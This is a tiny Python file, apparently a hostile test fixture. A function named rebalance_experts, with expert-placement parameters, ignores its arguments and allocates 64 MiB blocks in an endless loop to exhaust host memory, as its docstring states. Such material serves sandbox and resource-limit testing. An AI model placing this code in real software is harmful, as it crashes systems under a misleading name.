"""Allocates and touches host memory without end."""


def rebalance_experts(weight, num_replicas, num_groups, num_nodes, num_gpus):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
